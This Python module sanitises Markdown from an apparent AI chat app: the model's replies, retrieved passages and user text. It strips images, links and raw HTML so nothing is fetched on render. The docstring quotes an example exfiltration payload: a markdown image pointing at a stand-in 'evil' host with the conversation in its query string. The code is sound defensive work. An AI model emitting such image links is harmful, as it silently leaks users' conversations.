"""One sanitiser for every text we render as Markdown: `sanitize_markdown(text)`.

A markdown image is fetched by the browser the moment it is rendered, so a reply
holding `![chart](http://evil/?c=<the conversation>)` would leak the chat with no
click. Everything the page, the CLI and the Markdown export show goes through here:
the model's reply, knowledge passages (the Sources panel) and the user's own text.

What comes out:

- images, inline or by reference (`![a](u)`, `![a][1]`, `![a][]`), become the plain
  text "(image not shown: a)"; a shortcut `![a]` (an image only through a reference
  definition, and those are broken up) keeps its text with "!" and "[" split; nothing
  is fetched;
- links `[label](url)` become "label (host)" (the host only: a path or query can
  carry data), other schemes (javascript:, data:, relative) just "label";
- autolinks `<https://…>` and bare URLs become inline code, visible and not clickable;
- raw HTML (`<img …>`, `<iframe`, `<!-- -->`, `</x>`) is defused: its `<` becomes `‹`;
- link reference definitions (`[1]: http://…`) are broken up, so no `[x]` or `![x]`
  can pick up a URL from one.

After those readable rewrites, a final pass enforces the invariant whatever a parser
might make of odd input: the output contains no `![`, no `](`, no `]:` and no `<`
followed by a letter, `/`, `!` or `?`. That holds inside code too (a code span is
not trusted to stay a code span), at the cost of changing such code slightly.
"""

from __future__ import annotations

import re
from typing import Iterable, Iterator
from urllib.parse import urlsplit

IMAGE_TEXT = "(image not shown{alt})"
MAX_LABEL_CHARS = 200

_URL = re.compile(r"(?<![\w`/])(?:(?:https?|ftp)://|www\.)[^\s<>`\"'\])]+[^\s<>`\"'\]).,;:!?*_]", re.IGNORECASE)
_AUTOLINK = re.compile(r"<((?:[a-z][a-z0-9+.\-]{1,31}):[^\s<>]*)>|<([\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+)>", re.IGNORECASE)
_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")


def sanitize_markdown(text: str | None) -> str:
    """Markdown that renders without fetching anything and without raw HTML (see the module doc)."""
    if not text:
        return ""
    text = str(text).replace("\x00", "")
    text = _rewrite_brackets(text)
    text = _AUTOLINK.sub(_autolink, text)
    text = _HTML_START.sub("‹", text)
    text = _code_urls(text)
    return _enforce(text)


def sanitize_inline(text: str | None) -> str:
    """`sanitize_markdown` for a one-line label (a widget label, a source title): newlines become spaces."""
    return " ".join(sanitize_markdown(text).split())


def sanitize_stream(pieces: Iterable[str]) -> Iterator[str]:
    """Sanitised text for a stream of pieces, released a line at a time (a line is only
    sanitised once it is complete, so a construct split across pieces is still caught).
    The concatenated output equals sanitising each line of the whole text."""
    pending = ""
    for piece in pieces:
        pending += piece
        if "\n" in pending:
            done, pending = pending.rsplit("\n", 1)
            yield _sanitize_lines(done) + "\n"
    if pending:
        yield _sanitize_lines(pending)


def _sanitize_lines(text: str) -> str:
    return "\n".join(sanitize_markdown(line) if line.strip() else line for line in text.split("\n"))


# --- brackets: images and links ---------------------------------------------------------
def _rewrite_brackets(text: str) -> str:
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "\\" and i + 1 < n:
            out.append(text[i : i + 2])
            i += 2
            continue
        if ch == "!" and i + 1 < n and text[i + 1] == "[":
            close = _match_bracket(text, i + 1)
            if close is None:
                out.append("! [")
                i += 2
                continue
            alt = text[i + 2 : close]
            end = close + 1
            dest = _destination(text, end)
            if dest is not None:
                end = dest[1]
            elif end < n and text[end] == "[" and (ref_close := _match_bracket(text, end)) is not None:
                end = ref_close + 1
            else:
                # `![x]` alone is an image only through a reference definition, and those are
                # all broken up below: keep the text (often a citation after "!") and split "![".
                out.append("! ")
                i += 1
                continue
            out.append(_image_text(alt))
            i = end
            continue
        if ch == "[":
            close = _match_bracket(text, i)
            if close is not None:
                dest = _destination(text, close + 1)
                if dest is not None:
                    label = _rewrite_brackets(text[i + 1 : close])
                    out.append(_link_text(label, dest[0]))
                    i = dest[1]
                    continue
        out.append(ch)
        i += 1
    return "".join(out)


def _closing(text: str, start: int, opener: str, closer: str) -> int | None:
    """Index of the `closer` matching the `opener` at `start` (nesting and backslash escapes
    respected, never across a blank line), or None."""
    depth = 0
    i, n = start, len(text)
    while i < n:
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == "\n" and _BLANK_LINE.match(text, i):
            return None
        if ch == opener:
            depth += 1
        elif ch == closer:
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _match_bracket(text: str, start: int) -> int | None:
    """Index of the `]` closing the `[` at `start`, or None."""
    return _closing(text, start, "[", "]")


def _destination(text: str, start: int) -> tuple[str, int] | None:
    """If `text[start]` opens an inline destination `(url "title")`, return (url, index
    after the closing paren). Balanced parens and `<…>` destinations are understood."""
    if start >= len(text) or text[start] != "(":
        return None
    end = _closing(text, start, "(", ")")
    if end is None:
        return None
    url = _url_of(text[start + 1 : end].strip())
    return None if url is None else (url, end + 1)


def _url_of(inner: str) -> str | None:
    """The destination of `(inner)`, or None when it is not link-shaped (prose in
    parentheses after a `[1]` citation): one token, optionally a quoted title."""
    if inner.startswith("<"):
        end = inner.find(">")
        return inner[1:end] if end > 0 else None
    parts = inner.split(None, 1)
    if not parts:
        return ""
    if len(parts) == 2 and parts[1][0] not in "\"'(":
        return None
    return parts[0]


def _plain(text: str) -> str:
    """Label or alt text as plain words: brackets and emphasis markers dropped."""
    text = re.sub(r"[\[\]]", "", text)
    text = " ".join(text.split())
    return text[:MAX_LABEL_CHARS] + ("…" if len(text) > MAX_LABEL_CHARS else "")


def _image_text(alt: str) -> str:
    alt = _plain(_rewrite_brackets(alt))
    return IMAGE_TEXT.format(alt=f": {alt}" if alt else "")


def _host(url: str) -> str | None:
    url = url.strip()
    if url.lower().startswith("www."):
        url = "http://" + url
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() in ("http", "https", "ftp") and parts.hostname:
        return parts.hostname
    if parts.scheme.lower() == "mailto" and parts.path:
        return parts.path.split("?")[0]
    return None


def _link_text(label: str, url: str) -> str:
    label = " ".join(label.split())
    host = _host(url)
    if not host:
        return label
    return f"{label} ({host})" if label else f"({host})"


def _autolink(match: re.Match) -> str:
    url, email = match.group(1), match.group(2)
    if email:
        return email
    return url if _host(url) else url.split(":", 1)[0] + ": link removed"


# --- bare URLs: visible, not clickable ----------------------------------------------------
def _code_urls(text: str) -> str:
    pieces = []
    for is_code, part in _split_code(text):
        pieces.append(part if is_code else _URL.sub(lambda m: f"`{m.group(0)}`", part))
    return "".join(pieces)


def _split_code(text: str) -> list[tuple[bool, str]]:
    """(is_code, text) runs: fenced blocks and backtick code spans are code."""
    runs: list[tuple[bool, str]] = []
    pattern = re.compile(r"^[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}\1[ \t]*$|\Z)|(`+)(?:(?!\2).)+?\2(?!`)",
                         re.MULTILINE | re.DOTALL)
    last = 0
    for m in pattern.finditer(text):
        if m.start() > last:
            runs.append((False, text[last : m.start()]))
        runs.append((True, m.group(0)))
        last = m.end()
    if last < len(text):
        runs.append((False, text[last:]))
    return runs


# --- the invariant ------------------------------------------------------------------------------
_ENFORCE = (
    (re.compile(r"!(?=\\?\[)"), "! "),  # no image can start
    (re.compile(r"\](?=\\?\()"), "] "),  # no inline link or image destination
    (re.compile(r"\](?=:)"), "] "),  # no link reference definition
    (_HTML_START, "‹"),  # no raw HTML or autolink
)


def _enforce(text: str) -> str:
    for pattern, replacement in _ENFORCE:
        text = pattern.sub(replacement, text)
    return text
